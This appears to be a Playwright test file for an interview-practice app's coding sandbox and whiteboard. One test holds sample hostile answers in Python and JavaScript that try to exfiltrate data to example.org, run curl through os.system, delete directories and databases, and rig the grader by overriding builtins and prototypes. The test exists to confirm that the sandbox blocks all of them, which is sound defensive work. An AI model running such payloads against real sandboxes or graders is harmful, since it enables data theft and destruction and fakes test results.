import type { Page } from '@playwright/test'
import { axeViolations, expect, openReady, test, visit } from './app'

/** Goes through the chance of the plan: whichever task it is, the starter fails and code is written into the editor. */
async function startCoding(page: Page) {
  await visit(page, 'Interview')
  await page.getByRole('radio', { name: /^Coding/ }).check()
  await page.getByRole('button', { name: 'Start interview' }).click()
  await expect(page.getByRole('region', { name: 'Coding task' })).toBeVisible()
}

const tool = (page: Page) => page.getByRole('region', { name: 'Coding task' })
const editor = (page: Page) => page.getByRole('textbox', { name: /^Your code/ })

async function replaceCode(page: Page, code: string) {
  await editor(page).click()
  await page.keyboard.press('Control+a')
  await page.keyboard.insertText(code)
}

test('a coding round in JavaScript, with the server stopped: run, reload, submit, talk, report', async ({
  page,
  server,
  seen,
}) => {
  test.setTimeout(180_000)
  await openReady(page, server)
  await server.stop()
  await startCoding(page)

  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(tool(page).getByText(/^\d of \d tests passed/)).toBeVisible()

  const entry = (await editor(page).innerText()).match(/function (\w+)/)![1]!
  await replaceCode(page, `function ${entry}() { return fetch('https://example.org') }`)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(
    tool(page)
      .getByText(/There is no network in here/)
      .first(),
  ).toBeVisible()

  await replaceCode(page, `function ${entry}() { for (;;) {} }`)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(
    tool(page)
      .getByText(/Stopped after 5 seconds/)
      .first(),
  ).toBeVisible({ timeout: 20_000 })

  await replaceCode(page, `function ${entry}() { return 'kept through a reload' }`)
  await expect(page.getByText(/^Saved/)).toBeVisible()
  await page.reload()
  await expect(editor(page)).toContainText('kept through a reload')
  expect(await axeViolations(page)).toEqual([])

  // The editor is no trap: Escape, then Tab, leaves it.
  await editor(page).click()
  await page.keyboard.press('Escape')
  await page.keyboard.press('Tab')
  await expect(editor(page)).not.toBeFocused()

  await page.getByRole('button', { name: 'Submit answer' }).click()
  await expect(page.getByText('Follow-up', { exact: true })).toBeVisible({ timeout: 30_000 })
  await page.getByRole('button', { name: 'Finish interview' }).click()
  await page.getByRole('button', { name: 'Finish and see the report' }).click()
  const report = page.getByRole('region', { name: 'Report', exact: true })
  await expect(report).toContainText('The code is right on ordinary input')
  await expect(report).toContainText(/\d+ of \d+ tests passed, run in your browser, no model used/)
  await report.getByText('The whole conversation').click()
  const code = report.locator('pre', { hasText: 'kept through a reload' }).filter({ visible: true })
  await expect(code.locator('.hljs-keyword').first()).toBeVisible()
  expect(seen.errors).toEqual([])
})

test('Python is fetched when it is asked for, and then runs with the server stopped', async ({
  page,
  server,
  seen,
}) => {
  test.setTimeout(180_000)
  await openReady(page, server)
  await startCoding(page)
  const kept = await page.evaluate(async () => {
    const open = (await caches.keys()).map((name) => caches.open(name))
    const requests = await Promise.all(open.map(async (cache) => (await cache).keys()))
    return requests.flat().map(({ url }) => url)
  })
  expect(kept.length).toBeGreaterThan(20)
  expect(kept.filter((url) => /pyodide|python_stdlib/.test(url))).toEqual([])
  await page.getByRole('radio', { name: 'Python' }).check()
  await page.getByRole('button', { name: 'Get Python' }).click()
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled({ timeout: 60_000 })
  await server.stop()
  const entry = (await editor(page).innerText()).match(/def (\w+)/)![1]!
  await replaceCode(page, `def ${entry}(*arguments):\n    import js\n    return js.indexedDB`)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(
    tool(page)
      .getByText(/There is no page and no storage in here \(line 2\).*Python said: ModuleNotFoundError/)
      .first(),
  ).toBeVisible({ timeout: 90_000 })
  expect(seen.errors).toEqual([])
})

/** Each tries something that no answer may do, and goes on; what it gives back is equal to everything. */
const hostile = {
  python: (entry: string) => `
import atexit, builtins, collections, gc, os, sys
def attempt(what):
    try: exec(what, {})
    except BaseException as error: pass
for what in (
    "import js; js.fetch('https://example.org/stolen')",
    "import js; js.indexedDB.deleteDatabase('preflight')",
    "import pyodide_js; pyodide_js.loadPackage('https://example.org/stolen.whl')",
    "from pyodide.code import run_js; run_js('postMessage({kind: 0})')",
    "from pyodide.ffi import create_proxy; import js; js.navigator.locks.request('all', create_proxy(print))",
    "from pyodide.http import open_url; open_url('/stolen')",
    "import urllib.request; urllib.request.urlopen('http://localhost/stolen', timeout=1)",
    "import socket; socket.create_connection(('localhost', 80), 1)",
    "import ctypes; ctypes.memset(0, 255, 10 ** 6)",
    "import os; os.system('curl https://example.org/stolen')",
    "import shutil; shutil.rmtree('/lib'); shutil.rmtree('/tmp')",
): attempt(what)
collections.Counter.__init__ = collections.OrderedDict.__init__ = None
sys.meta_path.clear()
gc.callbacks.append(lambda *each: 1 / 0)
atexit.register(lambda: 1 / 0)
sys.settrace(lambda *each: None)
sys.stdout.write = sys.stdout.flush = None
frame = sys._getframe()
while frame:
    for name in list(frame.f_globals):
        if name in ("_stopped", "_told", "_dumps"): frame.f_globals[name] = lambda *each: '["value", true]'
    frame = frame.f_back
for name in ("len", "isinstance", "dict", "list", "range"): setattr(builtins, name, lambda *each: True)
class Everything:
    def __eq__(self, other): return True
    def __iter__(self): return iter(())
    def __float__(self): return 0.0
def ${entry}(*arguments, **named): return Everything()`,
  javascript: (entry: string) => `
const attempts = [
  () => fetch('https://example.org/stolen'),
  () => globalThis.constructor.constructor('return this')().fetch('https://example.org/stolen'),
  () => (0, eval)('indexedDB.deleteDatabase("preflight")'),
  () => import('https://example.org/stolen.js').catch(() => {}),
  () => postMessage({ kind: 'done', outcome: { cases: [], output: '' } }),
  () => new Worker('data:text/javascript,1'),
  () => navigator.locks.request('all', () => new Promise(() => {})),
  () => new Function('return process')().exit(),
]
for (const attempt of attempts) try { attempt() } catch {}
JSON.stringify = () => '{"value":true}'
Array.prototype.map = Array.prototype.push = () => true
Array.isArray = Number.isFinite = () => true
Object.prototype.toJSON = () => true
Object.defineProperty(globalThis, 'runCase', { value: () => true })
Promise.prototype.then = () => true
var ${entry} = () => new Proxy({}, { get: () => true, has: () => true, ownKeys: () => [] })`,
}

/** What an answer could harm: everything that the app keeps on the device. */
const kept = (page: Page) =>
  page.evaluate(async () => ({
    databases: (await indexedDB.databases()).map(({ name, version }) => `${name} ${version}`).sort(),
    caches: (await caches.keys()).sort(),
    locks: ((await navigator.locks.query()).held ?? []).map(({ name }) => name).sort(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    stored: { ...localStorage },
    title: document.title,
  }))

test('hostile answers reach nothing, pass nothing, and leave the next run as it was', async ({
  page,
  server,
  seen,
  context,
}) => {
  test.setTimeout(300_000)
  await openReady(page, server)
  await startCoding(page)
  const asked: string[] = []
  context.on('request', (request) => asked.push(request.url()))
  const run = async () => {
    await page.getByRole('button', { name: 'Run', exact: true }).click()
    await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled({ timeout: 90_000 })
  }
  const passed = tool(page).getByText(/^\d of \d tests passed/)
  for (const language of ['javascript', 'python'] as const) {
    await page.getByRole('radio', { name: language === 'python' ? 'Python' : 'JavaScript' }).check()
    if (language === 'python') await page.getByRole('button', { name: 'Get Python' }).click()
    await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled({ timeout: 60_000 })
    const starter = await editor(page).innerText()
    const entry = starter.match(language === 'python' ? /def (\w+)/ : /function (\w+)/)![1]!
    await run()
    const [honest, before] = [await passed.innerText(), await kept(page)]
    await replaceCode(page, hostile[language](entry))
    await run()
    const told = tool(page).getByText(
      /^0 of \d tests passed|There is no function|has suffered|Stopped|SyntaxError|TypeError/,
    )
    await expect(told.first()).toBeVisible()
    await expect(tool(page).getByText(/^(\d) of \1 tests passed/)).toHaveCount(0)
    expect(await kept(page)).toEqual(before)
    await replaceCode(page, starter)
    await run()
    expect(await passed.innerText()).toBe(honest)
  }
  expect(asked.filter((url) => /stolen|example\.org/.test(url))).toEqual([])
  await expect(page.getByText(/^Saved/)).toBeVisible()
  await page.reload()
  await expect(editor(page)).toContainText('def ')
  expect(seen.errors).toEqual([])
})

test('a whiteboard is drawn by the keyboard, kept through a reload, and read as part of the answer', async ({
  page,
  server,
  seen,
}) => {
  test.setTimeout(120_000)
  await openReady(page, server)
  await visit(page, 'Interview')
  await page.getByRole('radio', { name: /^System design/ }).check()
  await page.getByRole('button', { name: 'Start interview' }).click()
  await page.getByText('Whiteboard', { exact: true }).click()
  for (const name of ['Gateway', 'Retriever']) {
    await page.getByRole('button', { name: 'Box', exact: true }).click()
    await expect(page.getByLabel('Text of the box')).toBeFocused()
    await page.keyboard.type(name)
    await page.keyboard.press('Enter')
  }
  await page.getByRole('button', { name: 'Box Gateway' }).focus()
  await page.keyboard.press('c')
  await page.getByRole('button', { name: 'Box Retriever' }).focus()
  await page.keyboard.press('c')
  await expect(page.getByRole('button', { name: 'Arrow from Gateway to Retriever' })).toHaveCount(1)
  await page.getByRole('button', { name: 'Undo', exact: true }).click()
  await expect(page.getByRole('button', { name: 'Arrow from Gateway to Retriever' })).toHaveCount(0)
  await page.getByRole('button', { name: 'Redo', exact: true }).click()
  // Resized by its corner, then moved together with the other, by the mouse.
  const gateway = page.getByRole('button', { name: 'Box Gateway' })
  const retriever = page.getByRole('button', { name: 'Box Retriever' })
  await gateway.click()
  const before = (await gateway.locator('rect').boundingBox())!
  await page.mouse.move(before.x + before.width, before.y + before.height)
  await page.mouse.down()
  await page.mouse.move(before.x + before.width + 40, before.y + before.height + 30, { steps: 4 })
  await page.mouse.up()
  const larger = (await gateway.locator('rect').boundingBox())!
  expect(larger.width).toBeGreaterThan(before.width + 20)
  await page.getByRole('button', { name: 'Select several' }).click()
  await gateway.click()
  await retriever.click()
  await expect(page.getByText('2 elements selected.')).toBeVisible()
  const other = (await retriever.locator('rect').boundingBox())!
  await retriever.focus()
  for (let n = 0; n < 4; n++) await page.keyboard.press('ArrowDown')
  expect((await gateway.locator('rect').boundingBox())!.y).toBeGreaterThan(larger.y + 10)
  expect((await retriever.locator('rect').boundingBox())!.y).toBeGreaterThan(other.y + 10)
  expect(await axeViolations(page)).toEqual([])
  // What is deleted takes the focus no further than to the drawing; all of it is told there.
  await page.keyboard.press('Delete')
  const drawing = page.getByRole('group', { name: 'Drawing' })
  await expect(drawing).toBeFocused()
  await expect(drawing).toHaveAccessibleDescription('The board is empty.')
  await page.getByRole('button', { name: 'Undo', exact: true }).click()
  await expect(drawing).toHaveAccessibleDescription('2 boxes, 1 arrow. Gateway leads to Retriever.')
  await expect(page.getByText(/^Saved/)).toBeVisible()

  await page.reload()
  await expect(page.getByRole('button', { name: 'Box Gateway, leads to Retriever' })).toBeVisible()
  await page
    .getByLabel('Your answer')
    .fill('Requests come in at the gateway and the retriever finds the passages for them.')
  await page.getByRole('button', { name: 'Submit answer' }).click()
  await expect(page.getByRole('img', { name: /Gateway -> Retriever/ })).toBeVisible()
  expect(seen.errors).toEqual([])
})
